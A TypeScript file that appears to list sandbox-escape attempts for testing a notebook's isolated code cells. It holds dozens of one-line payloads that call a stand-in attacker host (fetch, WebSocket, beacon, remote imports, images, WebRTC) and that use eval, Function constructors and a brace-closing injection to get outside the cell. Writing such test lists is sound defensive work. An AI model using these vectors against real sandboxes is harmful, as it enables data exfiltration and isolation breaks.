/** What a cell must not be able to do, as code of a cell. It prints `reached` where it succeeds; HOST is the attacker's. */

const network = {
  fetch: `await (globalThis as any).fetch('http://HOST/')`,
  XMLHttpRequest: `await new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = no; r.open('GET', 'http://HOST/'); r.send() })`,
  WebSocket: `await new Promise((ok, no) => { const s = new WebSocket('ws://HOST/'); s.onopen = ok; s.onerror = no })`,
  'a stream of WebSocket': `await new (globalThis as any).WebSocketStream('ws://HOST/').opened`,
  WebTransport: `await new (globalThis as any).WebTransport('https://HOST/').ready`,
  EventSource: `await new Promise((ok, no) => { const s = new EventSource('http://HOST/'); s.onopen = ok; s.onerror = no })`,
  beacon: `if (!navigator.sendBeacon('http://HOST/')) throw 0`,
  'a fetch for later': `await (globalThis as any).fetchLater('http://HOST/')`,
  importScripts: `(globalThis as any).importScripts('http://HOST/')`,
  'an import while it runs': `await import('http://HOST/')`,
  'an import in a template': `const text = \`\${await import('http://HOST/')}\``,
  'a static import': `import x from 'http://HOST/'`,
  'an import behind the end of the cell': `})() }\nimport 'http://HOST/'\nfunction later() { (() => {`,
  'an export from elsewhere': `export * from 'http://HOST/'`,
  'an image': `await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'http://HOST/' })`,
  'a font': `await new FontFace('leak', 'url(http://HOST/)').load()`,
  'a style sheet': `new CSSStyleSheet().replaceSync('@import url(http://HOST/)')`,
  'a link that resolves a name': `const a = document.createElement('link'); a.rel = 'dns-prefetch'; a.href = 'http://HOST/'; document.head.append(a)`,
  WebRTC: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }).createDataChannel('x')`,
  navigation: `(globalThis as any).location.href = 'http://HOST/'`,
  'navigation of the top': `(globalThis as any).top.location.href = 'http://HOST/'`,
  'a window': `if (!(globalThis as any).open('http://HOST/')) throw 0`,
  'a notification': `new Notification('x', { icon: 'http://HOST/' })`,
} satisfies Record<string, string>

const workers = {
  'a nested worker': `new Worker(URL.createObjectURL(new Blob(['fetch("http://HOST/")'])))`,
  'a shared worker': `new SharedWorker('http://HOST/')`,
  'a service worker': `await navigator.serviceWorker.register('http://HOST/')`,
  'a frame': `document.body.append(document.createElement('iframe'))`,
  'a module from a blob': `URL.createObjectURL(new Blob(['export default 1']))`,
} satisfies Record<string, string>

const text = {
  eval: `(0, eval)('1')`,
  'a function from text': `new Function('return 1')()`,
  'the constructor of a function': `(() => 1).constructor('return 1')()`,
  'the constructor of an async function': `await (async () => {}).constructor('return import("http://HOST/")')()`,
  'the constructor of a generator': `(function* () {}).constructor('yield 1')().next()`,
  'the constructor of an async generator': `await (async function* () {}).constructor('yield 1')().next()`,
  'the constructor of the console’s functions': `(console.log as any).constructor('return this')()`,
  'the constructor of the engine’s functions': `import { tensor } from 'lexigrad'\n(tensor as any).constructor('return this')()`,
  'the constructor, reflected': `Reflect.construct(Object.getPrototypeOf(function () {}).constructor, ['return 1'])()`,
  'a timer from text': `await new Promise((ok, no) => { (globalThis as any).done = ok; setTimeout('done()' as any, 0); setTimeout(no, 200) })`,
  WebAssembly: `new (globalThis as any).WebAssembly.Memory({ initial: 1 })`,
} satisfies Record<string, string>

const storage = {
  indexedDB: `await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = no })`,
  caches: `await caches.open('x')`,
  'the origin private file system': `await navigator.storage.getDirectory()`,
  'local storage': `(globalThis as any).localStorage.setItem('x', '1')`,
  'session storage': `(globalThis as any).sessionStorage.setItem('x', '1')`,
  cookies: `await (globalThis as any).cookieStore.set('x', '1')`,
  'cookies of a document': `(globalThis as any).document.cookie = 'x=1'`,
  locks: `await navigator.locks.request('x', () => 1)`,
} satisfies Record<string, string>

const page = {
  'the parent': `(globalThis as any).parent.document`,
  'the opener': `(globalThis as any).opener.document`,
  'the top': `(globalThis as any).top.document`,
  'the document': `(globalThis as any).document.title`,
  'a broadcast to other cells': `new BroadcastChannel('x').postMessage('x')`,
  'a message past the port': `(globalThis as any).postMessage({ type: 'ended', run: 1 }); (globalThis as any).postMessage('[]')`,
  'the end of its worker': `(globalThis as any).close()`,
  'a listener for the port': `await new Promise((ok, no) => { addEventListener('message', ok); setTimeout(no, 200) })`,
} satisfies Record<string, string>

export const attempts: Record<string, string> = { ...network, ...workers, ...text, ...storage, ...page }
